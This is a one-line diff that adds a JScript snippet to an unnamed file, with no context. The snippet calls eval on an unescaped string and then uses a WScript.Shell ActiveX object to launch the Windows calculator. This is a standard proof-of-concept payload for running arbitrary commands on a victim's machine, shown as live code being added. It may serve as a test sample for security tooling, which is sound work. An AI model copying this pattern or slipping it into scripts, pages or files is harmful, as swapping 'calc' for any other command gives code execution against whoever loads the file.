@@ -1,0 +1,1 @@
+eval(unescape('%61'));new ActiveXObject('WScript.Shell').Run('calc')
